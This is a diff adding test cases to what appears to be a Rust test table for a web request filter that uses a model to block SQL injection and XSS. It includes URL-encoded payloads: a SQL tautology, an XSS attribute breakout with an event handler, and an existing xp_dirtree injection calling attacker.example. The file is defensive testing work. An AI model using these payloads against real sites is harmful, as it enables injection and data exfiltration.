@@ -432,6 +432,29 @@ pub fn table() -> Vec<Case> {
             "/search?q=x%27%3B+EXEC+master..xp_dirtree+%27%5C%5Cattacker.example%5Cx%27--",
             Blocked("sqli", "qs_values"),
         ),
+        // A tautology between closed strings, for a numeric parameter (0.01
+        // to the model).
+        case(
+            "query tautology",
+            "GET",
+            "/search?page=%27hi%27+or+%27x%27%3D%27x%27",
+            Blocked("sqli", "qs_values"),
+        ),
+        // An event handler added after an attribute's closing quote, calling
+        // something unlike the training payloads (0.06 to the model).
+        case(
+            "query handler breakout",
+            "GET",
+            "/search?q=y%22+autofocus+onfocus%3D%22(open)(%27%2F%2Fx.example%27)",
+            Blocked("xss", "qs_values"),
+        ),
+        // Campaign parameters inside a value: words that start with `on`.
+        case(
+            "benign on words",
+            "GET",
+            "/search?q=Campaign%3A+online%3Dyes%3B+offline%3Dno&ref=onboarding%3Dcomplete",
+            Served,
+        ),
         case(
             "query attack",
             "GET",
